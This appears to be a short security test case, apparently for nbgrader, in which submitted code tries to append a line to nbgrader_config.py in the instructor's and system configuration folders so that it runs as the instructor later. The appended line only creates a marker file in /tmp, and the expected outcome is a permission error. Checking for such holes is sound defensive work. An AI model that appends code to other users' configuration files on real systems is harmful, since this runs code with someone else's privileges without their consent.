"""
what: Appends code to the course's configuration, which runs as the instructor next time.
named: "tried: opening '.*nbgrader_config.py'"
alone: true
"""
# %% double
text = "\nopen('/tmp/ran-as-the-instructor', 'w')\n"
places = ("/home/grader/course", "/home/grader", "/home/grader/.jupyter", "/etc/jupyter")
for place in places:
    try:
        with open(f"{place}/nbgrader_config.py", "a") as file:
            file.write(text)
    except OSError as error:
        print(error)
